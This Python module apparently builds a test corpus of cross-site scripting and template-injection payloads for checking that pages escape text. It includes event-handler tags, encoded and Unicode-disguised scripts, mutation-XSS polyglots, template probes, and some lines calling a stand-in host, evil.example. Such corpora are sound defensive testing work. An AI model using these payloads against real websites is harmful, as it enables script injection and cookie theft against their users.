"""Texts that would run as script wherever a page forgets what is text. Each sets `window.hasRun`, or asks aloud."""

from __future__ import annotations

from itertools import product

RUN = "window.hasRun=1"
_ELEMENTS = (
    "img src=x", "svg", "video src=x", "audio src=x", "iframe", "object data=x", "embed src=x", "body", "details open",
    "input autofocus", "select autofocus", "math", "marquee", "style", "x tabindex=1", "a href=#",
)  # fmt: skip
_HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart")
_QUOTES = ("", '"', "'")
# Out of wherever the text stands: an attribute, a tag, a comment, a script, a style, a title.
_WAYS_OUT = (
    '">', "'>", "`>", ">", "-->", "]]>", "</script>", "</ScRiPt >", "</style>", "</title>", "</textarea>",
    "</noscript>", "</bdi></p>", '" x="', "' x='", "</template>", "*/", "\\", '\\">', "';//", '";//', "\n",
    "<!--", "<![CDATA[",
)  # fmt: skip
_SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java&#9;script:", "java&NewLine;script:", "javascript&colon;",
    "&#106;avascript:", "data:text/html,<script>", "vbscript:", "//evil.example/",
)  # fmt: skip
_LINKS = ("<a href={}>x</a>", "<form action={}><button>x</button></form>", "<iframe src={}></iframe>", "<base href={}>")
_TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%import os%}", "[[7*7]]", "@(7*7)", "*{7*7}", "{{''.__class__}}",
    "{{config.items()}}", "{amount}", "{shop}", "{0}", "%(shop)s", "%s%n",
    "{{constructor.constructor('" + RUN + "')()}}",
)  # fmt: skip
_DISGUISED = (
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "&#x3c;script&#x3e;{}", "%3Cscript%3E{}",
    "\\x3cscript\\x3e{}", "\\u003cscript\\u003e{}", "+ADw-script+AD4-{}", "＜script＞{}＜/script＞", "\u2028{}\u2029",
    "<scr\u200bipt>{}</scr\u200bipt>", "\u202e<script>{}</script>", "\u2066\u2067<script>{}</script>",
    "\ufeff<script>{}</script>", "<scr<script>ipt>{}</scr</script>ipt>", "<<script>{};//<</script>",
    "<script\n>{}</script\n>", "<script/x>{}</script>", "<svg><script>{}</script></svg>", "&amp;lt;script>{}",
    '"}}]);{};//', "');{};//", '","status":"success","x":"{}', "</script><!--<script>{}", "\u0130<script>{}</script>",
)  # fmt: skip
_DEVIOUS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={})//%0D%0A"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNload={}//>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror={}>">',
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror={} src=1>\">",
    "<img src=x onerror=alert(document.cookie)>",
    "<script>alert(document.domain)</script>",
    "<script>confirm(1)</script><script>prompt(2)</script>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/pixel.png>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<img name=page id=page><form id=offline><input name=textContent></form>",
    "<div id=page data-watch=https://evil.example/></div>",
    "<button data-copy=x data-smooth data-leave=1>x</button>",
    "<time datetime=x data-style=time></time><span data-countdown=0 data-elapsed=0></span>",
)  # fmt: skip


def _all() -> list[str]:
    script = f"<script>{RUN}</script>"
    return [
        script,
        *(f"<{element} {on}={RUN}>" for element, on in product(_ELEMENTS, _HANDLERS)),
        *(f"{quote} {on}={quote}{RUN}{quote} x={quote}" for quote, on in product(_QUOTES, _HANDLERS)),
        *(f"{way}{script}" for way in _WAYS_OUT),
        *(link.format(f'"{scheme}{RUN}"') for scheme, link in product(_SCHEMES, _LINKS)),
        *_TEMPLATES,
        *(text.replace("{}", RUN) for text in (*_DISGUISED, *_DEVIOUS)),
    ]


PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_all()))
# Of the characters that a reference may have.
REFERENCES = (
    "javascript:alert=1", "data:text.html", "__proto__", "constructor", "-alert-1-", "=cmd:calc=A1", "on.error=x",
    "...",
)  # fmt: skip
